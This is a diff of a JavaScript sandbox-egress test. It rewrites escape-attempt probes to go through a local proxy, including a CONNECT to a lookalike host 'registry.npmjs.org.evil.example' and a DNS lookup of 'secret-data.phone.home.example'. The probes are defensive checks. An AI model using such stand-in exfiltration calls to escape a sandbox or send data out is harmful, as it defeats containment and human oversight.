@@ -38,11 +38,16 @@ async function startRegistry(
           `await new Promise((resolve, reject) => { const target = 'http://${literal}:${canaries.httpPort}/x'; http.get({ host: '127.0.0.1', port: 3128, path: target, headers: { host: '${literal}:${canaries.httpPort}' } }, (response) => { response.resume(); response.statusCode === 200 ? resolve() : reject(new Error('HTTP ' + response.statusCode)); }).on('error', reject); });`,
         ),
       ),
+      // Named targets straight at the proxy too: whether the sandbox's node honours HTTP_PROXY for
+      // fetch depends on its version (the host's), and an attacker would not rely on it.
       attempt(
         'via-proxy-name',
-        `await check(await fetch('http://phone.home.example:${canaries.httpPort}/x'));`,
+        `await new Promise((resolve, reject) => { http.get({ host: '127.0.0.1', port: 3128, path: 'http://phone.home.example:${canaries.httpPort}/x', headers: { host: 'phone.home.example:${canaries.httpPort}' } }, (response) => { response.resume(); response.statusCode === 200 ? resolve() : reject(new Error('HTTP ' + response.statusCode)); }).on('error', reject); });`,
       ),
-      attempt('wildcard-trap', "await check(await fetch('https://registry.npmjs.org.evil.example/x'));"),
+      attempt(
+        'wildcard-trap',
+        "await new Promise((resolve, reject) => { http.request({ host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'registry.npmjs.org.evil.example:443' }).on('connect', (response, socket) => { socket.destroy(); response.statusCode === 200 ? resolve() : reject(new Error('HTTP ' + response.statusCode)); }).on('error', reject).end(); });",
+      ),
       attempt('dns', "await dns.lookup('secret-data.phone.home.example');"),
       attempt(
         'raw-socket',
